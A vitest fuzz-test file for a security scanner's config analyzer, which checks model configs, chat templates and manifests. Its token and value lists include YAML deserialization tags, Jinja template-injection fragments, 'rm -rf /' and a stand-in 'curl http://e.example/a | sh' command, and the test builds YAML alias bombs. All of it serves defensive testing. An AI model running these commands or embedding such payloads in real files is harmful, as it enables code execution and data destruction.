import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { LimitError, ModelgateError } from "../../core/errors.js";
import { DEFAULT_LIMITS } from "../../core/limits.js";
import { createBufferSource } from "../../core/source.js";
import type { VirtualFile } from "../../core/virtual-file.js";
import { getRule } from "../../rules/catalog.js";
import type { AnalyzerContext } from "../analyzer.js";
import { configAnalyzer } from "./analyzer.js";
import { prng } from "../../../test/helpers/fuzz.js";

const FIXTURES = new URL("../../../test/fixtures/hf/", import.meta.url).pathname;
const CORPUS_JINJA = new URL("../../../../shared/corpus/modelaudit/tests/assets/samples/", import.meta.url).pathname;

function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? filesUnder(p) : [p];
  });
}

const SEEDS: string[] = [
  ...filesUnder(FIXTURES),
  ...filesUnder(join(CORPUS_JINJA, "jinja2")),
  ...filesUnder(join(CORPUS_JINJA, "manifests")),
]
  .filter((p) => statSync(p).size < 100_000)
  .map((p) => readFileSync(p, "utf8"));

const NAMES = ["config.json", "tokenizer_config.json", "model_index.json", "modules.json", "hparams.yaml", "chat_template.jinja", "notes.txt", "README.md", "MANIFEST.json"];
const TOKENS = [
  "{", "}", "[", "]", ":", ",", '"', "'", "\n", "  ", "- ", "&a ", "*a", "!!python/object/apply:os.system ", "---\n",
  "{{", "}}", "{%", "%}", "{#", "#}", "__class__", "__globals__", "cycler", "auto_map", '"auto_map": {"AutoModel": "x--m.C"}',
  "chat_template", "_target_", "os.system", "api_key", "hf_", "AKIA", "sk-", "-----BEGIN PRIVATE KEY-----", "rm -rf /", "| sh",
  "http://", "url", "template", "class_name", "config", "null", "true", "1e309", "\\u0000", "\u2028", "\ufeff",
];

function randomText(rnd: () => number, max: number): string {
  const n = Math.floor(rnd() * max);
  let s = "";
  while (s.length < n) {
    s += rnd() < 0.6 ? TOKENS[Math.floor(rnd() * TOKENS.length)]! : String.fromCharCode(32 + Math.floor(rnd() * 95));
  }
  return s;
}

function mutate(rnd: () => number, text: string): string {
  let s = text;
  const rounds = 1 + Math.floor(rnd() * 4);
  for (let r = 0; r < rounds; r++) {
    const at = Math.floor(rnd() * (s.length + 1));
    const op = Math.floor(rnd() * 5);
    if (op === 0) s = s.slice(0, at) + TOKENS[Math.floor(rnd() * TOKENS.length)]! + s.slice(at);
    else if (op === 1) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(rnd() * 20));
    else if (op === 2) s = s.slice(0, at);
    else if (op === 3) s = s.slice(0, at) + s.slice(at, at + 50).repeat(1 + Math.floor(rnd() * 5)) + s.slice(at);
    else s = s.slice(0, at) + String.fromCharCode(Math.floor(rnd() * 0x3000)) + s.slice(at + 1);
  }
  return s;
}

function randomValue(rnd: () => number, depth: number): unknown {
  const pick = rnd();
  if (depth > 6 || pick < 0.35) {
    const strings = ["modeling_x.MyModel", "org/repo--modeling_x.M", "{{ x.__class__ }}", "curl http://e.example/a | sh", "https://e.example/hook", "os.system", "SECRET_API_KEY_12345", "<pad>", ""];
    return rnd() < 0.7 ? strings[Math.floor(rnd() * strings.length)] : Math.floor(rnd() * 1000);
  }
  if (pick < 0.5) return Array.from({ length: Math.floor(rnd() * 4) }, () => randomValue(rnd, depth + 1));
  const keys = ["auto_map", "AutoModel", "chat_template", "template", "custom_pipelines", "impl", "_target_", "target", "params", "api_key", "webhook_url", "class_name", "config", "layers", "name", "model", "handler", "runtime"];
  const obj: Record<string, unknown> = {};
  for (let i = Math.floor(rnd() * 5); i > 0; i--) obj[keys[Math.floor(rnd() * keys.length)]!] = randomValue(rnd, depth + 1);
  return obj;
}

function context(): { ctx: AnalyzerContext; reported: string[] } {
  const reported: string[] = [];
  const deadline = Date.now() + 5_000;
  const ctx: AnalyzerContext = {
    limits: DEFAULT_LIMITS,
    report(ruleId, input) {
      const rule = getRule(ruleId); // throws for ids missing from the catalog
      reported.push(ruleId);
      return { ruleId, severity: input.severity ?? rule.severity, title: rule.title, message: input.message, location: { path: "x" }, cwe: rule.cwe, atlas: rule.atlas, owasp: rule.owasp, remediation: rule.remediation };
    },
    scanMember: async () => {},
    setFormat: () => {},
    chargeDecompressed: () => {},
    checkDeadline: () => {
      if (Date.now() > deadline) throw new LimitError("timeoutMs", 5_000, 5_000);
    },
  };
  return { ctx, reported };
}

async function run(text: string, name: string): Promise<{ reported: string[]; error: unknown }> {
  const file: VirtualFile = { path: name, name, depth: 0, source: createBufferSource(Buffer.from(text, "utf8")) };
  const { ctx, reported } = context();
  let error: unknown;
  try {
    await configAnalyzer.analyze(file, ctx);
  } catch (e) {
    error = e;
  }
  if (error !== undefined && !(error instanceof ModelgateError)) {
    expect.fail(`non-ModelgateError escaped for ${name}: ${String(error)}\n--- input (${text.length} chars) ---\n${text.slice(0, 500)}`);
  }
  return { reported, error };
}

describe("configAnalyzer fuzz (JSON / YAML / templates / text)", () => {
  it("random text, mutated real configs and random structures: only ModelgateError escapes", async () => {
    const rnd = prng(0x5eed_0f_c0);
    for (let i = 0; i < 2500; i++) {
      const name = NAMES[Math.floor(rnd() * NAMES.length)]!;
      const kind = i % 3;
      const text =
        kind === 0
          ? randomText(rnd, 600)
          : kind === 1 && SEEDS.length > 0
            ? mutate(rnd, SEEDS[Math.floor(rnd() * SEEDS.length)]!)
            : JSON.stringify(randomValue(rnd, 0));
      await run(text, name);
    }
  }, 60_000);

  it("YAML alias bombs of any shape are bounded", async () => {
    const rnd = prng(7);
    for (let i = 0; i < 20; i++) {
      const width = 2 + Math.floor(rnd() * 9);
      const levels = 3 + Math.floor(rnd() * 10);
      const lines = [`l0: &l0 [${Array(width).fill('"lol"').join(",")}]`];
      for (let l = 1; l < levels; l++) lines.push(`l${l}: &l${l} [${Array(width).fill(`*l${l - 1}`).join(",")}]`);
      const { error } = await run(lines.join("\n"), "bomb.yaml");
      // Small bombs expand within the alias budget; big ones must stop at the limit.
      if (width ** levels > 1_000_000) expect(error).toBeInstanceOf(LimitError);
    }
  }, 30_000);

  it("deep nesting in JSON, YAML flow and block style stays an error finding", async () => {
    for (const [text, name] of [
      ["[".repeat(100_000) + "]".repeat(100_000), "deep.json"],
      ["a: " + "[".repeat(50_000) + "]".repeat(50_000), "deep.yaml"],
      ["- ".repeat(50_000) + "x\n", "deep.yml"],
      ['{"a":'.repeat(50_000) + "1" + "}".repeat(50_000), "config.json"],
    ] as const) {
      const { reported, error } = await run(text, name);
      // Either the walk limit (JSON) or the parser's refusal (YAML, reported as invalid): never silently clean.
      expect(error instanceof LimitError || reported.includes("hf/invalid-config"), name).toBe(true);
    }
  }, 30_000);
});
